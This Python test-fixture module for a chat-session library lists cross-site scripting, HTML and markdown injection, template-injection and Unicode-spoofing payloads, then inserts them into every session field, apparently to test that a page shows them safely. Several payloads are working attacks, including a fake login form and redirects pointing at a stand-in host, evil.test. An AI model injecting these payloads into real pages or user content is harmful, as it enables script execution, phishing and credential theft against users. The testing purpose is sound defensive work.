"""Text that tries to become part of the page that shows it: to set `window.pwned`, to fetch, or to style something."""

from __future__ import annotations

from palaver import Opaque, Origin, Session, SessionManager, ThinkingPart, ToolCall, assistant, system, tool, user
from palaver.model import FilePart, ImagePart

__all__ = ["ATTACKS", "named_so", "said_so"]

ATTACKS = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><animate onbegin=window.pwned=1>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=key><button>Log in</button></form>",
    '"><b onmouseover=window.pwned=1 style=position:fixed;inset:0>x</b>',
    "' autofocus onfocus=window.pwned=1 x='",
    "</textarea></title></details></main><h1>Gone</h1>",
    "<!-- -->--!><script>window.pwned=1</script>",
    "[click](javascript:window.pwned=1) [b](JaVa\tScript:window.pwned=1) [c](&#106;avascript:window.pwned=1)",
    "[d](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==) [e](vbscript:x) [f](//evil.test/x)",
    "<javascript:window.pwned=1> <http://evil.test/> https://evil.test/",
    '![x](http://evil.test/seen.png) ![y](data:image/svg+xml;base64,PHN2Zy8+) ![z]("onerror=window.pwned=1)',
    '[ref]: javascript:window.pwned=1 "title\\" onclick=window.pwned=1"\n\n[ref] ![ref]',
    "| a |\n|:-:|\n| <script>window.pwned=1</script> |",
    '```html"><script>window.pwned=1</script>\n<script>window.pwned=1</script>\n```',
    "`<img src=x onerror=window.pwned=1>` **<b onclick=window.pwned=1>**",
    "{{ 7*7 }}{% raw %}{{ cycler.__init__.__globals__ }} ${7*7} <%= 7*7 %>",
    "javascript:window.pwned=1",
    "x\u202egnp.exe\u2066\u0000\u001b[31m",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;script&#62;",
    "> " * 60 + "<script>window.pwned=1</script>",
)


def named_so(sessions: SessionManager, attack: str) -> Session:
    """A session that has this for its title, tag, metadata, and for everything that it says of where it is from."""
    name = attack[:200]
    origin = Origin(
        "evil", chat_type="group", chat_id=name, chat_name=name, user_id=name, user_name=name, chat_topic=name,
        agent=name.replace("\0", ""),
    )  # fmt: skip
    session = sessions.create(origin, metadata={name: [attack, {name: attack}]})
    session.append(user(f"found {attack}", sender=name), assistant(attack))
    session.rename(attack.replace("\0", ""))
    session.tag(name.replace("\0", ""))
    return session


def said_so(sessions: SessionManager) -> Session:
    """A session in which each of them is said by everyone, called, answered, thought, edited, undone and summarised."""
    session = sessions.create(title="Said so")
    for attack in ATTACKS:
        name = attack[:200]
        image = ImagePart(url=attack, name=name, media_type=name)
        session.append(
            user((attack, image, FilePart(name=name, media_type=name, data="aGk=")), sender=name),
            assistant((ThinkingPart(text=attack), attack), ToolCall(name=name, call_id=name, arguments=attack)),
            tool(name, attack, name=name, is_error=True),
            assistant((Opaque(wire=name, data='{"x": "</script><script>window.pwned=1</script>"}'), attack)),
            user(attack, name=name),
        )
        at = session.append(system(attack)).last_seq
        session.edit(at, attack + " ")
    session.compact("\n".join(ATTACKS), through_seq=at - 2 * 6)
    session.append(user("undone"), *(assistant(attack) for attack in ATTACKS))
    session.truncate(after=at)
    return session
